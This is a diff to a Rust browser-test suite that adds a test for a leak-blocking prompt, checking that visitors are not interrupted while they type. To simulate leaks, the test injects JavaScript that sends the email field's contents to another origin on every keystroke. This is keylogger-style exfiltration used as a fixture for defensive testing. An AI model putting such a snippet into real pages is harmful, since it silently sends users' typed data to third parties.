@@ -25,6 +25,7 @@ in_browsers! {
         without_the_chunk_everything_goes_on
         nothing_loads_until_something_is_typed
         one_question_for_one_cause
+        nobody_is_asked_while_they_type
         allowed_for_the_visit_holds_on_the_next_page
         it_is_stopped_and_told_where_the_site_wants_it_so
         it_goes_and_is_told_where_the_site_wants_it_so
@@ -437,6 +438,30 @@ async fn one_question_for_one_cause(visitor: &Visitor) {
     visitor.presses("Block").await;
     visitor.sees("failed === 100 && !modal()").await;
     visitor.finds("events('leak').map(event => event.detail.verdict)", json!(["asked", "blocked"])).await;
+}
+
+async fn nobody_is_asked_while_they_type(visitor: &Visitor) {
+    visitor.site().page("/", page("ask"));
+    types_an_address(visitor, "/").await;
+    // So that everything is there that shows a question.
+    let [first, second] = ["a", "b"].map(|name| json!(elsewhere(visitor, name, "typing")));
+    visitor.runs(&format!("fetch({first} + '?{EMAIL}').catch(() => {{}})")).await;
+    answers(visitor, "Block").await;
+    visitor.sees("!modal()").await;
+    // A page that sends on every key.
+    visitor
+        .runs(&format!(
+            "const field = one('[name=email]'); field.addEventListener('input', () => fetch({second} + '?' + field.value).catch(() => {{}})); field.value = ''; field.focus()"
+        ))
+        .await;
+    let asked_early = visitor
+        .evaluates(&format!(
+            "(async () => {{ const field = one('[name=email]'); for (const letter of '{EMAIL}') {{ field.value += letter; field.dispatchEvent(new Event('input', {{ bubbles: true }})); await new Promise(requestAnimationFrame); if (modal()) return true; }} return false; }})()"
+        ))
+        .await;
+    assert_eq!(asked_early, json!(false));
+    visitor.sees("one('dialog.leak[open]')").await;
+    visitor.finds("[one('[name=email]').value, events('leak').length > 2]", json!([EMAIL, true])).await;
 }
 
 async fn allowed_for_the_visit_holds_on_the_next_page(visitor: &Visitor) {
